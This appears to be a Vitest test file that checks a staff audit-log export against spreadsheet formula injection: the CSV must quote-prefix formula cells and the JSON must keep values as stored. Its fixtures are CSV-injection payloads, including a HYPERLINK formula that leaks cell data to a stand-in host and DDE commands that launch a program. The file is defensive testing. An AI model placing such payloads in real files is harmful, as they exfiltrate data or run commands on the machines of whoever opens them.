// Attack: free text that becomes a formula when an export is opened in a spreadsheet. Real access
// log rows carry each payload in the recipient and the reason, written by a staff account whose
// name is a formula too; both exports are taken through their routes. The CSV must never hand a
// spreadsheet a live formula; the JSON must keep every value exactly as stored (it is data).
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import * as csvRoute from "~/routes/staff.audit.export[.]csv";
import * as jsonRoute from "~/routes/staff.audit.export[.]json";
import { recordAudit } from "~/services/audit.server";
import { getDb, schema } from "~/services/db.server";
import { insertStaff, signedIn } from "../support/staff";

const PAYLOADS = [
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "=1+1\0hidden after a NUL",
];
const STAFF_NAME = "=HYPERLINK(\"http://evil.example\",\"Ann\")";
const context = { cspNonce: "t", requestId: "export-payloads", clientIp: "127.0.0.1" };
const MARK = "payload_entity";

let cookie = "";
let staffId = 0;

beforeAll(async () => {
  const { user: writer } = await insertStaff(["reviewer"], undefined, { displayName: STAFF_NAME });
  staffId = writer.id;
  const at = new Date();
  getDb().transaction((tx) => {
    for (const payload of PAYLOADS) {
      recordAudit(tx, { action: "disclosure", actor: { kind: "staff", id: writer.id }, entityType: MARK, entityId: "1", recipient: payload, reason: payload, requestId: "export-payloads" }, at);
    }
  });
  const { user: manager } = await insertStaff(["manager"]);
  cookie = (await signedIn(manager.id)).cookie;
});

const get = (path: string) => new Request(`http://localhost:3000${path}`, { headers: { Cookie: cookie } });

/** The rows as stored (the access log makes control characters spaces at write time). */
const storedRows = () =>
  getDb().select().from(schema.auditLog).where(eq(schema.auditLog.entityType, MARK)).orderBy(schema.auditLog.id).all();

/** RFC 4180 reader (quotes, doubled quotes, CRLF records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

/** What a spreadsheet decides on: the first character after any leading tab, CR, LF or NUL. */
const startsAsFormula = (cell: string) => /^[\t\r\n\0]*[=+\-@]/.test(cell);

describe("exports of free text against formula and control-character payloads", () => {
  it("stores the payloads (control characters already made spaces by the access log)", () => {
    const rows = storedRows();
    expect(rows).toHaveLength(PAYLOADS.length);
    expect(rows.filter((r) => startsAsFormula(r.recipient ?? ""))).toHaveLength(PAYLOADS.length);
  });

  it("the CSV export hands no cell to a spreadsheet as a formula, and changes nothing but the quote in front", async () => {
    const response = await csvRoute.loader({ request: get(`/staff/audit/export.csv?staff=${staffId}`), params: {}, context });
    const text = await response.text();
    expect(text).not.toContain("\0");
    const records = parseCsv(text);
    const header = records[3]!;
    const data = records.slice(4).filter((cells) => cells[header.indexOf("entity_type")] === MARK);
    const stored = storedRows();
    expect(data).toHaveLength(stored.length);
    const byHash = new Map(stored.map((row) => [row.hash, row]));
    for (const cells of data) {
      const row = byHash.get(cells[header.indexOf("hash")]!)!;
      expect(row).toBeDefined();
      for (const column of ["recipient", "reason", "actor_name"]) {
        const cell = cells[header.indexOf(column)]!;
        expect(startsAsFormula(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
        expect(cell.startsWith("'")).toBe(true);
      }
      expect(cells[header.indexOf("recipient")]).toBe(`'${row.recipient}`);
      expect(cells[header.indexOf("reason")]).toBe(`'${row.reason}`);
      expect(cells[header.indexOf("actor_name")]).toBe(`'${STAFF_NAME}`);
    }
  });

  it("the JSON export keeps every value exactly as stored: data, not prefixed", async () => {
    const response = await jsonRoute.loader({ request: get(`/staff/audit/export.json?staff=${staffId}`), params: {}, context });
    expect(response.headers.get("Content-Type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; /);
    const body = (await response.json()) as { rows: Array<{ entity_type: string; recipient: string; reason: string; actor_name: string; hash: string }> };
    const rows = body.rows.filter((r) => r.entity_type === MARK);
    const stored = storedRows();
    expect(rows).toHaveLength(stored.length);
    const byHash = new Map(stored.map((row) => [row.hash, row]));
    for (const row of rows) {
      const original = byHash.get(row.hash)!;
      expect(original).toBeDefined();
      expect(row.recipient).toBe(original.recipient);
      expect(row.reason).toBe(original.reason);
      expect(row.actor_name).toBe(STAFF_NAME);
    }
    // Every payload's formula characters arrive unchanged: a JSON reader gets the data itself.
    expect(rows.filter((row) => startsAsFormula(row.recipient))).toHaveLength(PAYLOADS.length);
  });

  it("the JSON export round-trips a value with a NUL, tab and CR exactly (JSON escapes them)", async () => {
    // The access log cleans control characters on the way in; JSON must carry any that reach it.
    const value = "\0=1+1\t\r\n@x";
    const written = JSON.stringify({ recipient: value });
    expect(written).not.toMatch(/[\0\t\r\n]/);
    expect((JSON.parse(written) as { recipient: string }).recipient).toBe(value);
  });
});
